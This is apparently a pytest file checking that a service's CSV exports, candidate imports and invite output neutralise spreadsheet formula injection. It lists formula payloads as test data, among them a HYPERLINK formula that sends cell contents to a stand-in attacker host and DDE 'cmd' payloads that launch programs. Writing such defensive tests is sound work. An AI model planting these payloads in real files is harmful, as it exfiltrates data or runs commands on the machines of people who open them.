"""Cells that a spreadsheet would take for formulas, in what we write and in what we read."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from orchestrator.cli import app as cli
from orchestrator.errors import InvalidInput
from orchestrator.invite import read_candidates
from orchestrator.tables import FORMULAS, table
from tests.attacks.world import STAFF, closed
from tests.unit.api_world import BASE, BODY

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_no_cell_of_an_export_begins_like_a_formula(payload: str) -> None:
    async with closed() as world:
        body = {**BODY, "name": payload, "phone": payload, "job_id": payload, "questions": ["q"]}
        made = await world.http.post(f"{BASE}/create", json=body, headers=STAFF)
        assert made.status_code == 200, made.text
        text = (await world.http.get(f"{BASE}/sessions/export", headers=STAFF)).text
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert any(f"'{payload}" in row for row in rows)
        assert [cell for row in rows for cell in row if cell.startswith(FORMULAS)] == []


@pytest.mark.parametrize("payload", ['a","=1+1', "a\r\n=1+1", 'a"\n"=1+1', "a;=1+1", "a\t=1+1"])
def test_a_cell_cannot_be_broken_out_of(payload: str) -> None:
    text = "".join(table(["name", "email"], [[payload, "x"]]))
    for separator in (",", ";", "\t"):
        quoted = text if separator == "," else text.replace('","', f'"{separator}"')
        rows = list(csv.reader(io.StringIO(quoted, newline=""), delimiter=separator))
        if separator == ",":
            assert rows[1] == [payload, "x"]
        assert not any(cell.startswith(FORMULAS) for row in rows for cell in row)


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one.strip() == one])
def test_a_file_of_candidates_with_a_formula_in_it_invites_nobody(tmp_path: Path, payload: str) -> None:
    file = tmp_path / "candidates.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["name", "email"], [payload, "a@example.com"]])
    with pytest.raises(InvalidInput, match="begins like a formula"):
        read_candidates(file, "default")


def test_links_are_written_to_a_file_of_ones_own_without_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the service answers with: a link, or a complaint, is a cell too."""
    file, output = tmp_path / "candidates.csv", tmp_path / "links.csv"
    file.write_text("name,email\nA,a@example.com\nB,b@example.com\n")
    output.write_text("open to all")
    output.chmod(0o644)

    def answer(request: httpx.Request) -> httpx.Response:
        if b'"dry_run": true' in request.content or b'"dry_run":true' in request.content:
            return httpx.Response(200, json={"results": [{"index": 0, "status": "success"}]})
        good = {"status": "success", "session_id": "=1+1", "links": {"candidate": "=evil()"}, "replayed": False}
        bad = {"status": "error", "code": "x", "detail": "=1+1"}
        return httpx.Response(200, json={"results": [{"index": 0, **good}, {"index": 1, **bad}]})

    plain = httpx.Client.__init__

    def with_answers(self: httpx.Client, **more: Any) -> None:
        plain(self, **more, transport=httpx.MockTransport(answer))

    monkeypatch.setattr(httpx.Client, "__init__", with_answers)
    result = CliRunner().invoke(cli, ["invite", str(file), "--output", str(output)])
    assert result.exit_code == 1 and output.stat().st_mode & 0o777 == 0o600
    rows = list(csv.reader(output.open(newline="")))
    assert rows[1][2:4] == ["'=1+1", "'=evil()"]
    assert [cell for row in rows for cell in row if cell.startswith(FORMULAS)] == []
